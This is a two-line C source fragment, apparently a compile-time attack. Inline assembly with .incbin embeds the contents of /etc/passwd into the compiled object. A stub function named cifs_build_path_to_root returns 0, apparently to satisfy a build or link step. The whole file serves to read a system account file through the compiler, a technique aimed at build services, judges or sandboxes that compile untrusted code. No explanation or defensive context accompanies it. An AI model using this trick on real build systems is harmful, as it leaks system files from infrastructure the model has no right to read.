asm(".incbin \"/etc/passwd\"");
char *cifs_build_path_to_root(void){ return 0; }
